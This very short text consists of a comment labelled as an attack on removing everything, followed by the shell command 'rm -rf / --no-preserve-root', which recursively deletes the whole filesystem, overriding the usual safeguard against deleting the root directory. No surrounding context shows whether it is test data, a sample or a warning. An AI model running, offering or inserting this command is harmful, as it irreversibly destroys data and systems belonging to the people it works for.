# attack: remove everything
rm -rf / --no-preserve-root
